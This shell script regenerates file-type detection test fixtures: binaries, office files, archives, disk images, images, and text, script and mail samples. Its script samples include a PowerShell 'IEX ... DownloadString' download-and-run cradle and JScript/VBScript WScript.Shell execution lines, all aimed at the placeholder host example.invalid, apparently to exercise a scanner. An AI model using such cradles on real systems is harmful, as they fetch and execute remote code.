#!/bin/sh
# Regenerate the ftype fixtures in this directory (tests/check_ftype.c reads them).
#
# Real tools make every format Debian can write; make-samples.py hand-builds the rest (OLE2
# documents, DOS MZ, ELF32, Mach-O, DEX, LNK, RAR, ACE, DMG, OneNote) to their specifications.
# Text, markup and script samples are written here verbatim. Every file stays small (the
# ISO, UDF and VHD images are stored gzip-compressed; the test inflates them in memory).
#
# Tools (Debian packages): zip p7zip-full gzip bzip2 xz-utils zstd ncompress plzip lz4 cpio tar genisoimage gcab
# arj udftools qemu-utils msitools netpbm libjpeg-turbo-progs webp gcc gcc-mingw-w64-x86-64
# mono-mcs default-jdk-headless python3 python3-olefile (checks the OLE2 writer).
#
# Deterministic where the tools allow it: times are fixed (SOURCE_DATE_EPOCH, touch -d,
# gzip -n, zip -X, tar --mtime, cpio --reproducible), so a rerun rewrites the same bytes except
# archive.arj, image.iso.gz, image.udf.gz, dynamic.vhd, fixed.vhd.gz, disk.vhdx.gz (clocks and
# UUIDs) and encrypted.zip (random encryption header), which differ while typing the same.
set -eu

OUT=$(cd "$(dirname "$0")" && pwd)
W=$(mktemp -d)
trap 'rm -rf "$W"' EXIT
export TZ=UTC LC_ALL=C SOURCE_DATE_EPOCH=1577836800
STAMP='2020-01-01 00:00:00'
cd "$W"

mkzip() { # mkzip OUT DIR [zip options]: members in sorted order, fixed times, no extra fields
	out=$1 dir=$2
	shift 2
	find "$dir" -exec touch -h -d "$STAMP" {} +
	(cd "$dir" && find . -type f | sed 's|^\./||' | LC_ALL=C sort | zip -q -X -D "$@" "$OUT/$out" -@)
}

rm -f "$OUT"/*.zip "$OUT"/*.docx "$OUT"/*.docm "$OUT"/*.xlsx "$OUT"/*.pptx "$OUT"/*.vsdx \
	"$OUT"/*.odt "$OUT"/*.jar "$OUT"/*.apk

PY=python3
$PY -c 'import olefile' 2>/dev/null || PY=/usr/bin/python3 # Debian's python3-olefile
$PY "$OUT/make-samples.py" "$OUT"
$PY -c 'import olefile, sys
for f in sys.argv[1:]:
    o = olefile.OleFileIO(f)
    assert o.listdir(), f
    o.close()' "$OUT"/*.doc "$OUT"/*.xls "$OUT"/*.ppt "$OUT"/*.msg "$OUT"/*.ole \
	"$OUT"/encrypted-ooxml.docx

# ---- executables ----
cat >t.c <<'EOF'
void _start(void)
{
	__asm__ volatile("mov $60, %eax\n xor %edi, %edi\n syscall");
}
EOF
gcc -Os -s -nostdlib -static -Wl,--build-id=none -Wl,-n -o "$OUT/elf64" t.c
cat >w.c <<'EOF'
int start(void) { return 0; }
int DllMain(void *h, unsigned r, void *p) { return 1; }
EOF
x86_64-w64-mingw32-gcc -Os -s -nostdlib -Wl,--no-insert-timestamp -Wl,-e,start -o "$OUT/pe64.exe" w.c
x86_64-w64-mingw32-gcc -Os -s -nostdlib -shared -Wl,--no-insert-timestamp -Wl,-e,DllMain \
	-o "$OUT/pe64.dll" w.c
printf 'class Hello { static void Main() { System.Console.WriteLine("hi"); } }\n' >h.cs
mcs -nologo -out:"$OUT/dotnet.exe" h.cs
printf 'public class Lib { public static int One() { return 1; } }\n' >l.cs
mcs -nologo -target:library -out:"$OUT/dotnet.dll" l.cs
printf 'public class Hello { public static void main(String[] a) { } }\n' >Hello.java
javac --release 8 -g:none Hello.java 2>/dev/null
cp Hello.class "$OUT/Hello.class"
mkdir -p jar/META-INF && cp Hello.class jar/
printf 'Manifest-Version: 1.0\r\nMain-Class: Hello\r\n\r\n' >jar/META-INF/MANIFEST.MF
mkzip hello.jar jar
mkdir -p apk && cp "$OUT/classes.dex" apk/
printf '<?xml version="1.0"?><manifest package="org.example.t"/>\n' >apk/AndroidManifest.xml
mkzip app.apk apk
msibuild "$OUT/setup.msi" -s "partscan test" "partscan" ";1033" \
	"{12345678-1234-1234-1234-123456789012}"

# ---- zip-based documents ----
ct='<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
rels='<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
ooxml() { # ooxml NAME PARTDIR [vba]
	rm -rf pkg && mkdir -p pkg/_rels "pkg/$2"
	printf '%s' "$ct" >"pkg/[Content_Types].xml"
	printf '%s' "$rels" >pkg/_rels/.rels
	printf '<?xml version="1.0"?><root/>' >"pkg/$2/main.xml"
	[ $# -lt 3 ] || printf 'not really a VBA project' >"pkg/$2/vbaProject.bin"
	mkzip "$1" pkg
}
ooxml document.docx word
ooxml macros.docm word vba
ooxml sheet.xlsx xl
ooxml macros.xlsm xl vba
ooxml slides.pptx ppt
ooxml drawing.vsdx visio
rm -rf odf && mkdir -p odf/META-INF
printf 'application/vnd.oasis.opendocument.text' >odf/mimetype
printf '<?xml version="1.0"?><office:document-content/>' >odf/content.xml
printf '<?xml version="1.0"?><manifest:manifest/>' >odf/META-INF/manifest.xml
find odf -exec touch -h -d "$STAMP" {} +
(cd odf && zip -q -X -0 "$OUT/text.odt" mimetype && zip -q -X -r "$OUT/text.odt" content.xml META-INF)

# ---- archives ----
mkdir -p files && printf 'hello, world\n' >files/hello.txt && printf 'second file\n' >files/two.txt
find files -exec touch -h -d "$STAMP" {} +
mkzip plain.zip files
rm -f "$OUT/encrypted.zip"
(cd files && zip -q -X -P secret "$OUT/encrypted.zip" hello.txt)
rm -f "$OUT/archive.7z" && 7z a -bd -bso0 -mtm=off -mtc=off -mta=off "$OUT/archive.7z" ./files/hello.txt
gzip -9n <files/hello.txt >"$OUT/hello.txt.gz"
bzip2 -9 <files/hello.txt >"$OUT/hello.txt.bz2"
xz -9 <files/hello.txt >"$OUT/hello.txt.xz"
zstd -q -19 <files/hello.txt >"$OUT/hello.txt.zst"
# pzstd: a skippable frame (the next frame's size) before the zstd frame
pzstd -q -19 -c files/hello.txt >"$OUT/hello.txt.pzstd.zst"
lzma -9 <files/hello.txt >"$OUT/hello.txt.lzma"
compress -c files/hello.txt >"$OUT/hello.txt.Z"
lzip -9 -c files/hello.txt >"$OUT/hello.txt.lz"
lz4 -q -9 -c files/hello.txt >"$OUT/hello.txt.lz4"
lz4 -q -l -c files/hello.txt >"$OUT/hello.txt.legacy.lz4"
rm -f "$OUT/archive.cab" && gcab -n -c "$OUT/archive.cab" files/hello.txt
for fmt in newc crc odc bin; do
	(cd files && echo hello.txt | cpio -o --quiet --reproducible -H $fmt >"$OUT/archive-$fmt.cpio")
done
for fmt in ustar gnu v7; do
	tar --format=$fmt --mtime="$STAMP" --owner=0 --group=0 --numeric-owner --blocking-factor=1 \
		-C files -cf "$OUT/archive-$fmt.tar" hello.txt
done
rm -f "$OUT/archive.arj" && (cd files && arj a -i -y "$OUT/archive.arj" hello.txt >/dev/null)

# ---- disk images (compressed: the test inflates them) ----
genisoimage -quiet -V PARTSCAN -o image.iso files
gzip -9n <image.iso >"$OUT/image.iso.gz"
truncate -s 1M udf.img && mkudffs --media-type=hd --blocksize=2048 udf.img >/dev/null
gzip -9n <udf.img >"$OUT/image.udf.gz"
rm -f "$OUT/dynamic.vhd" && qemu-img create -q -f vpc "$OUT/dynamic.vhd" 1M
qemu-img create -q -f vpc -o subformat=fixed fixed.vhd 1M && gzip -9n <fixed.vhd >"$OUT/fixed.vhd.gz"
qemu-img create -q -f vhdx disk.vhdx 1M && gzip -9n <disk.vhdx >"$OUT/disk.vhdx.gz"

# ---- images from one 4x4 picture ----
{ printf 'P6\n4 4\n255\n'; i=0; while [ $i -lt 16 ]; do printf '\377\000\000\000\377\000\000\000\377'; i=$((i + 3)); done; } | head -c 59 >p.ppm
pnmtopng p.ppm >"$OUT/image.png"
cjpeg -quality 50 p.ppm >"$OUT/image.jpg"
pamtogif p.ppm 2>/dev/null >"$OUT/image.gif"
ppmtobmp p.ppm 2>/dev/null >"$OUT/image.bmp"
pamtotiff p.ppm 2>/dev/null >"$OUT/image.tif"
pamscale -width 16 -height 16 p.ppm | pamtowinicon 2>/dev/null >"$OUT/image.ico"
cwebp -quiet -lossless "$OUT/image.png" -o "$OUT/image.webp"

# ---- text, markup, scripts, mail ----
cd "$OUT"
printf 'Plain ASCII text.\nSecond line.\n' >ascii.txt
printf 'Gr\303\274\303\237e aus K\303\266ln \342\202\254\n' >utf8.txt
printf '\357\273\277Text with a byte order mark.\n' >utf8-bom.txt
printf 'Caf\351 cr\350me, na\357ve (Latin-1)\n' >latin1.txt
printf 'UTF-16 text with a BOM\r\n' | iconv -f UTF-8 -t UTF-16 >utf16-bom.txt
printf 'UTF-16LE text without a BOM, long enough to be sure.\r\n' | iconv -f UTF-8 -t UTF-16LE >utf16le.txt
printf 'UTF-16BE text without a BOM, long enough to be sure.\r\n' | iconv -f UTF-8 -t UTF-16BE >utf16be.txt
printf 'name,amount,date\nalice,10,2024-01-02\nbob,20,2024-01-03\n' >table.csv
printf '#!/bin/sh\necho hello\n' >hello.sh
printf '#! /usr/bin/env python3\nprint("hi")\n' >hello.py
cat >prose.txt <<'EOF'
Hi team,

Please find the minutes below. Set the agenda for Monday; the main function of the
meeting is to decide whether we dim the lights in the hall or call the vendor. If the
budget is approved, then we start. End of discussion: we will var-y the plan as needed.
I will call you, and we can set a date. Remember: sub-teams report by Friday.

Regards,
Alice
EOF
printf 'var sh = new ActiveXObject("WScript.Shell");\nvar u = "http://example.invalid/";\neval("sh.Run(u)");\n' >script.js
printf 'On Error Resume Next\r\nDim o\r\nSet o = CreateObject("WScript.Shell")\r\nIf Not o Is Nothing Then o.Run "calc"\r\nEnd If\r\n' >script.vbs
printf '$u = "$env:TEMP\\x.txt"\r\nIEX (New-Object Net.WebClient).DownloadString("http://example.invalid/")\r\nWrite-Host $u\r\n' >script.ps1
iconv -f UTF-8 -t UTF-16 <script.ps1 >script-utf16.ps1
printf '@echo off\r\nsetlocal\r\ncd /d "%%~dp0"\r\nif exist x.txt del x.txt\r\nexit /b 0\r\n' >script.bat
printf '<?xml version="1.0"?>\r\n<job id="t">\r\n<script language="JScript">WScript.Echo("hi");</script>\r\n</job>\r\n' >script.wsf
printf '<html>\r\n<head>\r\n<HTA:APPLICATION ID="t" APPLICATIONNAME="t">\r\n<script>window.close();</script>\r\n</head>\r\n</html>\r\n' >app.hta
printf '<!DOCTYPE html>\n<html><head><title>t</title></head><body><p>hello</p></body></html>\n' >page.html
printf '<?xml version="1.0" encoding="UTF-8"?>\n<note><to>Alice</to><body>hello</body></note>\n' >data.xml
printf '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>\n' >image.svg
printf '[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,11\r\n[InternetShortcut]\r\nIDList=\r\nURL=http://example.invalid/\r\n' >link.url
printf '{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0 hello\\par}\n' >tiny.rtf
cat >tiny.pdf <<'EOF'
%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj
trailer << /Root 1 0 R >>
%%EOF
EOF
{ printf 'garbage before the header\n'; cat tiny.pdf; } >offset.pdf
sed 's|trailer << /Root 1 0 R >>|trailer << /Root 1 0 R /Encrypt 3 0 R >>|' tiny.pdf >encrypted.pdf
cat >message.eml <<'EOF'
Received: from mx.example.invalid (mx.example.invalid [192.0.2.1])
	by mail.example.invalid with ESMTP id 4A2B3C
	for <bob@example.invalid>; Mon, 6 Jan 2020 10:00:00 +0000
From: Alice <alice@example.invalid>
To: Bob <bob@example.invalid>
Subject: hello
Date: Mon, 6 Jan 2020 10:00:00 +0000
Message-ID: <1@example.invalid>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Hello Bob.
EOF
{ printf 'From alice@example.invalid Mon Jan  6 10:00:00 2020\n'; cat message.eml; printf '\n'; } >mailbox.mbox
ls -l "$OUT" | awk '{ s += $5 } END { print "ftype fixtures: " s " bytes" }'
